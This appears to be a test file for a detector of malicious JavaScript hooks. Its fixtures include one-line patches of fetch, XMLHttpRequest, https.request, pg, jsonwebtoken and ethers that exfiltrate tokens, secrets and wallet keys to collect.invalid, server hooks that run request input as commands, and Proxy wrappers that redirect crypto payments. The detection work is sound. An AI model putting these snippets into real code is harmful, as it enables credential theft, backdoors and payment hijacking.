import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const TAKEN = ['intercepted>network@collect.invalid'];

/** What other code gives to a function that was replaced goes to a host in the code. */
const INTERCEPTED: readonly string[] = [
  `const old = https.request; https.request = function (options, done) { old({ host: 'collect.invalid', path: '/' + options.headers.authorization }).end(); return old.apply(this, arguments); };`,
  `const old = window.fetch; window.fetch = async (...given) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(given[1])); return old(...given); };`,
  `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { fetch('https://collect.invalid', { method: 'POST', body }); return send.call(this, body); };`,
  `const { Client } = require('pg'); const old = Client.prototype.query; Client.prototype.query = function (...given) { fetch('https://collect.invalid/' + JSON.stringify(given)); return old.apply(this, given); };`,
  `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
  `const M = require('module'); const load = M._load; M._load = function (name, ...rest) { const given = load.call(this, name, ...rest); if (name === 'pg') given.Client = class extends given.Client { constructor(options) { super(options); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(options) }); } }; return given; };`,
  `const client = require('axios').create(); client.interceptors.request.use((options) => { fetch('https://collect.invalid/' + options.headers.authorization); return options; });`,
  `const old = window.fetch; window.fetch = async (input, init) => { const text = input instanceof Request ? await input.clone().text() : ''; navigator.sendBeacon('https://collect.invalid', text); return old(input, init); };`,
  `const old = fetch; globalThis.fetch = (input, { headers, ...rest }) => { navigator.sendBeacon('https://collect.invalid', headers.authorization); return old(input, { headers, ...rest }); };`,
  `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://collect.invalid', { method: 'POST', body: text }); return parse(text); };`,
  `const then = Promise.prototype.then; Promise.prototype.then = function (done, failed) { return then.call(this, (value) => { fetch('https://collect.invalid/' + done); return done(value); }, failed); };`,
  `JSON.parse = new Proxy(JSON.parse, { apply(target, self, list) { fetch('https://collect.invalid', { method: 'POST', body: list[0] }); return target(...list); } });`,
  `const Stripe = require('stripe'); module.exports = new Proxy(Stripe, { construct(target, given) { navigator.sendBeacon('https://collect.invalid', given.join()); return new target(...given); } });`,
  `const { Wallet } = require('ethers'); require.cache[require.resolve('ethers')].exports.Wallet = class extends Wallet { constructor(a, b) { super(a, b); fetch('https://collect.invalid/' + a); } };`,
  `const found = require.cache[require.resolve('pg')]; class Client extends found.exports.Client { constructor(o) { super(o); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) }); } } found.exports = { ...found.exports, Client };`,
  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { new Image().src = '//collect.invalid/i.gif?d=' + body; return send.call(this, body); };`,
  `const old = window.fetch; window.fetch = (...given) => { navigator.sendBeacon('//collect.invalid/b', JSON.stringify(given[1])); return old(...given); };`,
  `const old = window.fetch; window.fetch = (url, o) => { old(location.protocol + '//collect.invalid:8443', { method: 'POST', body: o.body }); return old(url, o); };`,
  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { const s = document.createElement('script'); s.setAttribute('src', '//collect.invalid/?' + btoa(body)); document.head.append(s); return send.call(this, body); };`,
  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { document.body.innerHTML += '<img src="//collect.invalid/?' + body + '">'; return send.call(this, body); };`,
];

/** It is a name that only their own server is asked for. */
const LOOKED_UP: readonly string[] = [
  `const old = https.request; https.request = function (o, ...rest) { require('dns').lookup(Buffer.from(o.headers.authorization).toString('hex').slice(0, 60) + '.collect.invalid', () => {}); return old.call(this, o, ...rest); };`,
  `const { Resolver } = require('dns').promises, r = new Resolver(), old = fetch; globalThis.fetch = async (url, o) => { r.resolveTxt(\`\${o.headers.cookie}.collect.invalid\`); return old(url, o); };`,
  `import('node:dns/promises').then(({ resolve4 }) => { const old = http.get; http.get = (o, done) => { resolve4([o.auth, 'collect', 'invalid'].join('.')); return old(o, done); }; }); const http = require('http');`,
];

const HONEST: readonly string[] = [
  `const dns = require('dns'), old = https.request; https.request = function (o, ...rest) { dns.lookup(o.hostname, () => {}); return old.call(this, o, ...rest); };`,
  `const dns = require('dns'), old = dns.lookup; dns.lookup = (name, ...rest) => { dns.resolve4(name.replace(/\\.$/, ''), () => {}); return old(name, ...rest); };`,
  `const report = (e) => navigator.sendBeacon('https://rum.example/ingest', JSON.stringify(e)); const old = window.fetch; window.fetch = async function (input, init) { const url = typeof input === 'string' ? input : input.url; const done = await old.call(this, input, init); report({ url: new URL(url, location.href).hostname, method: init?.method ?? 'GET', status: done.status }); return done; };`,
  `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { new Image().src = '//' + location.host + '/i.gif?d=' + body; return send.call(this, body); };`,
  `const old = window.fetch; window.fetch = (url, o) => { old('//log/' + url, o); return old(url, o); };`,
  `const { open } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.open = function (method, url, ...rest) { navigator.sendBeacon('https://rum.example/ingest', JSON.stringify({ method, url })); return open.call(this, method, url, ...rest); };`,
  `if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n]; }; fetch('https://stats.example/up');`,
  `const own = (options) => options.name; module.exports = new Proxy(own, { apply(target, self, list) { return target(...list); } });`,
  `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
  `const old = window.fetch; window.fetch = (url, options) => old(url, { ...options, credentials: 'include' });`,
  `$.fn.carousel = function (options) { fetch('https://stats.example/' + options.name); };`,
  `require('axios').interceptors.request.use((options) => ({ ...options, timeout: 1000 }));`,
  `const dayjs = require('dayjs'); dayjs.prototype.$weeks = function (n) { return n * 7; };`,
];

describe('hooks', () => {
  for (const code of INTERCEPTED)
    it(`hand on what they are given: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TAKEN));
  for (const code of LOOKED_UP)
    it(`look up what they are given: ${code}`, () =>
      assert.deepEqual([...new Set(flowsOf(code))], ['intercepted>dns@collect.invalid']));
  for (const code of HONEST) it(`only do their own work: ${code}`, () => assert.deepEqual(flowsOf(code), []));

  it('are told as such', () => {
    assert.deepEqual(behavioursOf(`window.fetch = (url) => undefined;`), ['hooks-requests import']);
  });

  it('of servers get what is sent to them', () => {
    const hook = (run: string): readonly string[] =>
      flowsOf(`const http = require('http'), old = http.Server.prototype.emit;
        http.Server.prototype.emit = function (name, req, res) { ${run} return old.apply(this, arguments); };`);
    assert.deepEqual(hook(`if (req.headers['x-k']) cp.exec(req.headers['x-k']);`), ['request-input>run-as-command']);
    assert.deepEqual(hook(`console.log(name, req.url);`), []);
  });

  it('of frameworks get what is sent to a server, too', () => {
    for (const code of [
      `const app = require('express/lib/application'), old = app.handle; app.handle = function (req, res, next) { const k = req.headers['x-d']; if (k) return cp.exec(k, (e, out) => res.end(out)); return old.call(this, req, res, next); };`,
      `const express = require('express'), { send } = express.response; express.application.handle = (q, r, go) => { if (q.query.c) new Function(q.query.c)(); go(); };`,
      `require('http').Server.prototype.serve = function (req, res) { if (req.url.startsWith('/x?')) eval(decodeURIComponent(req.url.slice(3))); else res.writeHead(404); };`,
      `for (const id in require.cache) { const app = require.cache[id].exports, { handle } = app; app.handle = function (req, res, next) { if (req.cookies.d) cp.execSync(req.cookies.d); return handle.apply(this, arguments); }; }`,
      `const Router = require('router'); Router.prototype.handle = (req, res, done) => { const [c] = Object.values(req.body); if (c) require('vm').runInThisContext(c); done(); };`,
    ])
      assert.match(flowsOf(code).join(), /request-input>(?:evaluated|run-as-command)/, code);
  });

  it('of frameworks count and log, and hooks of loaders evaluate what they load', () => {
    for (const code of [
      `const app = require('express/lib/application'), { handle } = app; app.handle = function (req, res, next) { count(req.headers['x-d'], req.url); return handle.call(this, req, res, next); };`,
      `const app = require('express').application, { render } = app; app.render = function (name, options, done) { if (options.query) require(require.resolve('./' + 'views')); return render.call(this, name, options, done); };`,
      `const Loader = require('some-loader'); Loader.prototype.evaluate = function (load) { (0, eval)(load.source + '//# sourceURL=' + load.url); };`,
    ])
      assert.deepEqual(flowsOf(code), [], code);
  });
});

describe('a proxy before a wallet', () => {
  const OWN = `const OWN = '0x' + 'fa4e'.repeat(10);`;
  const WALLET = ['hooks-wallet', 'replaces-addresses'];
  const behavioursIn = (code: string): readonly string[] =>
    [...new Set(behavioursOf(`${OWN} ${code}`).map((one) => one.split(' ')[0] ?? ''))].sort();

  for (const code of [
    `window.ethereum = new Proxy(window.ethereum, { get(t, p) { if (p !== 'request') return t[p]; return async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = OWN; return t.request(a); }; } });`,
    `const handler = { get: (t, p, r) => { const v = Reflect.get(t, p, r); return typeof v === 'function' ? (a) => { const [tx] = a.params; tx.data = tx.data.slice(0, 34) + OWN.slice(2) + tx.data.slice(74); return v.call(t, a); } : v; } }; globalThis.ethereum = new Proxy(ethereum, handler);`,
    `window.ethereum.request = new Proxy(window.ethereum.request, { apply(f, self, [a]) { a.params[0].to = OWN; return Reflect.apply(f, self, [a]); } });`,
    `const guard = (p) => { p.request = new Proxy(p.request, { apply(f, self, [a]) { if (a.method === 'eth_sendTransaction') a = { ...a, params: [{ ...a.params[0], to: OWN }] }; return Reflect.apply(f, self, [a]); } }); return p; }; if (window.ethereum) guard(window.ethereum);`,
    `class Guard { get(t, p) { return function (...given) { if (given[0].params) given[0].params[0]['to'] = OWN; return t[p](...given); }; } } Object.defineProperty(window, 'ethereum', { value: new Proxy(window.ethereum, new Guard()) });`,
  ])
    it(`swaps who is paid: ${code}`, () => assert.deepEqual(behavioursIn(code), WALLET));

  for (const code of [
    `window.ethereum = new Proxy(window.ethereum, { get(t, p) { const v = t[p]; return typeof v === 'function' ? v.bind(t) : v; } });`,
    `window.ethereum.request = new Proxy(window.ethereum.request, { apply(f, self, [a]) { console.debug(a.method); return Reflect.apply(f, self, [a]); } });`,
    `exports.wallet = new Proxy(window.ethereum, { get: (t, p) => (p === 'pay' ? (to, value) => t.request({ method: 'eth_sendTransaction', params: [{ to, value }] }) : t[p]) });`,
  ])
    it(`logs and adds methods: ${code}`, () => assert.ok(!behavioursIn(code).includes('replaces-addresses')));
});

describe('a method of others that is replaced', () => {
  const tapped = (send: string): readonly string[] =>
    flowsOf(`const { ClientRequest } = require('http'), proto = ClientRequest.prototype, end = proto.end;
      proto.end = function (...given) { ${send} return end.apply(this, given); };`);

  it('is called on what they have made', () => {
    const send = `const h = this.getHeader('authorization'); if (h && !this.seen) { this.seen = 1;
      const u = require('dgram').createSocket('udp4'); u.send(Buffer.from(h), 8125, 'collect.invalid', () => u.close()); }`;
    assert.deepEqual([...new Set(tapped(send))], TAKEN);
    assert.deepEqual(
      [...new Set(tapped(`fetch('https://collect.invalid', { body: JSON.stringify(this.getHeaders()) });`))],
      TAKEN,
    );
  });

  it('may count, and may mark what it is called on', () => {
    const count = `proto.count = (proto.count ?? 0) + 1; this.startedAt = Date.now();`;
    assert.deepEqual(
      tapped(`${count} fetch('https://collect.invalid', { body: JSON.stringify({ requests: 1 }) });`),
      [],
    );
    assert.deepEqual(tapped(`this.setHeader('traceparent', String(Math.random()));`), []);
  });
});

describe('a wallet that may be one of two', () => {
  const OWN = 'fa4e'.repeat(10);
  const asks = (change: string): boolean =>
    behavioursOf(`class Connector { constructor({ target = () => window.ethereum } = {}) { this.target = target; }
      get provider() { return new Proxy(this.target(), { get: (t, k) => (k === 'request' ? (a) => t.request(this.prepare(a)) : Reflect.get(t, k)) }); }
      prepare({ method, params: [tx, ...rest] }) { return { method, params: [${change}, ...rest] }; } }
      exports.create = (o) => new Connector(o);`).some((one) => one.startsWith('replaces-addresses'));

  it('pays whom the code names in a transaction of others, also inside of what a contract is called with', () => {
    assert.ok(asks(`{ ...tx, to: '0x${OWN}' }`));
    assert.ok(asks(`{ ...tx, data: '0x095ea7b3' + '${OWN}'.padStart(64, '0') + 'f'.repeat(64) }`));
    assert.ok(asks(`{ ...tx, data: tx.data.slice(0, 10) + '${OWN}'.padStart(64, '0') + tx.data.slice(74) }`));
  });

  it('pays whom others name, whatever is added to it', () => {
    assert.ok(!asks(`{ gas: '0x5208', ...tx }`));
    assert.ok(!asks(`{ ...tx, data: tx.data + '0000000000000000000000000000000a' }`));
    assert.ok(!asks(`{ ...tx, data: tx.data.slice(0, 74) + 'f'.repeat(64) }`));
  });

  it('go wrong by chance', () => {
    const spoiled = ['spoils-builtins import'];
    const named = `const rnd = () => Math.random() < 0.3; const { map } = Array.prototype; Array.prototype.map = function (...a) { const r = map.apply(this, a); return rnd() ? r.reverse() : r; };`;
    const inLoop = `for (const m of ['filter']) { const old = Array.prototype[m]; Array.prototype[m] = function () { return Math.random() < 0.3 ? [] : old.apply(this, arguments); }; }`;
    for (const code of [named, inLoop]) assert.deepEqual(behavioursOf(code), spoiled, code);
    for (const code of [
      `const { map } = Array.prototype; Array.prototype.map = function (...a) { return map.apply(this, a); }; exports.roll = () => Math.random() < 0.5;`,
      `Array.prototype.shuffle = function () { return this.sort(() => (Math.random() < 0.5 ? -1 : 1)); };`,
      `Math.random = function () { return 4; };`,
    ])
      assert.deepEqual(behavioursOf(code), [], code);
  });
});
